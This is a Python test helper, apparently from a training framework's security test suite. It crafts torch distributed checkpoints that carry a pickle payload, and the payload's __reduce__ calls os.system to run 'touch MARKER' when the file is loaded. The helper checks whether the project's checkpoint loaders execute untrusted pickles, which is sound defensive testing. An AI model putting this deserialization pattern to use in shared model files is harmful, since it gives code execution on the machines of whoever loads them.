"""Crafted checkpoints: a real torch_dist checkpoint with one of its pickles replaced by a payload
whose unpickling runs ``touch MARKER`` (the attack a shared checkpoint could carry). Each crafted
file stays loadable by an unrestricted unpickler - the payload returns 0 where a value was - so a
loader that runs it would carry on and exit 0, as torch's and megatron-core's loaders did."""
from __future__ import annotations

import os
import pickle
import shlex
import shutil
from pathlib import Path

import torch

KINDS = ("metadata", "object", "common")


class Payload:
    """Unpickling this runs ``touch marker`` (pickle calls os.system)."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return os.system, (f"touch {shlex.quote(self.marker)}",)


def _metadata(path: Path):
    with open(path / ".metadata", "rb") as f:
        return pickle.load(f)  # our own, trusted file


def _write_metadata(path: Path, md) -> None:
    with open(path / ".metadata", "wb") as f:
        pickle.dump(md, f)


def craft(src_root: Path, dst_root: Path, kind: str, marker: Path) -> Path:
    """A copy of checkpoint root ``src_root`` at ``dst_root`` whose current checkpoint carries the
    payload in ``kind``: the DCP ``.metadata``, a byte object (an ``_extra_state`` entry) or
    ``common.pt``. Returns the crafted iter/release dir."""
    from hpctrain.checkpoint import layout

    shutil.copytree(src_root, dst_root)
    ckpt = layout.require_latest(dst_root).path
    if kind == "metadata":
        md = _metadata(ckpt)
        md.storage_meta.modules = [Payload(marker)]
        _write_metadata(ckpt, md)
    elif kind == "object":
        _replace_object(ckpt, Payload(marker))
    elif kind == "common":
        common = torch.load(ckpt / "common.pt", weights_only=False)
        common["note"] = Payload(marker)
        torch.save(common, ckpt / "common.pt")
    else:
        raise ValueError(kind)
    return ckpt


def _replace_object(ckpt: Path, obj) -> str:
    """Point the first ``_extra_state`` byte object of ``ckpt`` at a new file holding ``obj``."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata

    md = _metadata(ckpt)
    key = next(k for k, v in md.state_dict_metadata.items()
               if isinstance(v, BytesStorageMetadata) and "_extra_state" in k)
    index = next(i for i in md.storage_data if i.fqn == key)
    name = "__crafted.distcp"
    torch.save(obj, ckpt / name)
    md.storage_data[index] = _StorageInfo(relative_path=name, offset=0, length=(ckpt / name).stat().st_size)
    _write_metadata(ckpt, md)
    return key
